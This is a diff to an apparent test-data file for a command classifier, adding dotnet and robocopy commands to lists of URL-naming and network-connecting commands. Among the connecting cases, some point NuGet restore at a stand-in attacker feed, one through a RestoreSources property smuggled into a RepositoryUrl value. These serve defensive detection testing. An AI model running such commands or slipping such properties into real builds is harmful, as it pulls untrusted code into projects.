@@ -190,6 +190,9 @@ NAMING_ONLY = [
     ("posix", "parcel build src/index.html --public-url https://cdn.example.org/"),
     ("posix", "mysitegen build --site-url https://example.org --canonical-url https://example.org/"),
     ("powershell", "hugo --minify --baseURL https://example.org/"),
+    # MSBuild properties a package only records: the repository's and the project's address
+    ("powershell", "dotnet build -c Release /p:RepositoryUrl=https://github.com/org/repo"),
+    ("posix", "dotnet pack -c Release -p:PackageProjectUrl=https://example.org"),
 ]
 CONNECTS = [
     ("posix", "hugo --baseURL https://example.org/ --url http://10.0.0.1:1313/x"),
@@ -199,6 +202,9 @@ CONNECTS = [
     ("posix", "mytool --index-url https://pypi.example/simple"),
     ("posix", "hugo -b https://example.org/"),
     ("posix", "mytool --baseurl-fetch=https://example.org/"),
+    ("powershell", "dotnet build /p:RestoreSources=https://evil.example/feed"),  # a feed restore reads
+    ("posix", "dotnet build '/p:RepositoryUrl=https://github.com/o/r;RestoreSources=https://evil.example/'"),
+    ("powershell", "robocopy . /dest://srv/share"),
 ]
 
 
